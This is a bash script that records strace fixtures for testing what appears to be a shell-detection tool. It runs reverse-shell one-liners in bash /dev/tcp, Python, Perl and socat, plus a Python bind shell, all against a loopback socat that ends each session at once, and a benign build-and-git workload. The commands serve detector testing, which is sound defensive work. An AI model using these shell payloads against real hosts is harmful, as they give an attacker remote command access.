#!/usr/bin/env bash
# gen_fixtures.sh: record the strace captures under tests/fixtures/ again (loopback only).
#   tools/gen_fixtures.sh [OUTDIR]     default tests/fixtures
# Each remote shell connects to (or is reached from) a socat on 127.0.0.1 that sends "exit", so
# the shell ends at once. strace time flags differ per capture so the reader sees every form.
# The benign capture is a small build, git and dpkg-query: it must give no detection.
set -euo pipefail
out=${1:-tests/fixtures}
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"; kill $(jobs -p) 2>/dev/null || true' EXIT
mkdir -p "$out"

port() { echo $((30000 + RANDOM % 20000)); }
listening() { ss -Htln "sport = :$1" | grep -q .; }
wait_listen() { for _ in $(seq 250); do listening "$1" && return 0; sleep 0.02; done; return 1; }

# reverse NAME STRACE_FLAGS COMMAND (PORT in COMMAND is replaced)
reverse() {
	local name=$1 flags=$2 cmd=$3 p
	p=$(port)
	timeout 20 socat TCP-LISTEN:"$p",bind=127.0.0.1,reuseaddr SYSTEM:'echo exit; sleep 0.3' &
	wait_listen "$p"
	timeout 20 strace -f $flags -o "$tmp/$name" sh -c "${cmd//PORT/$p}" </dev/null >/dev/null 2>&1 || true
	wait
	gzip -9n <"$tmp/$name" >"$out/$name.strace.gz"
}

reverse bash_dev_tcp -t "bash -c 'bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/PORT 0>&1'"
reverse python_dup2 -tt "/usr/bin/python3 -c 'import socket,os,subprocess;s=socket.socket();s.connect((\"127.0.0.1\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'"
reverse perl -ttt "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(PORT,inet_aton(\"127.0.0.1\")))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'"
reverse socat "" "socat TCP:127.0.0.1:PORT EXEC:/bin/sh"

# a python bind shell, reached by socat
p=$(port)
timeout 20 strace -f -tt -o "$tmp/python_bind" /usr/bin/python3 -c "
import socket,os
s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(('127.0.0.1',$p));s.listen(1)
c,a=s.accept()
for f in (0,1,2): os.dup2(c.fileno(),f)
os.execv('/bin/sh',['sh','-i'])" </dev/null >/dev/null 2>&1 &
wait_listen "$p"
(echo exit; sleep 0.3) | timeout 10 socat - TCP:127.0.0.1:"$p" >/dev/null
wait
gzip -9n <"$tmp/python_bind" >"$out/python_bind.strace.gz"

# benign: build a small program, commit it with git, query dpkg
mkdir "$tmp/w"
cat >"$tmp/w/hello.c" <<'C'
#include <stdio.h>
int main(void) { puts("hello"); return 0; }
C
printf 'hello: hello.c\n\tcc -O2 -o hello hello.c\n' >"$tmp/w/Makefile"
strace -f -tt -o "$tmp/benign" sh -c "cd $tmp/w && make -s && ./hello && git init -q && \
	git add . && git -c user.name=t -c user.email=t@t commit -qm x && git log --oneline && \
	dpkg-query -W bash coreutils" </dev/null >/dev/null 2>&1
gzip -9n <"$tmp/benign" >"$out/benign_workload.strace.gz"
ls -l "$out"
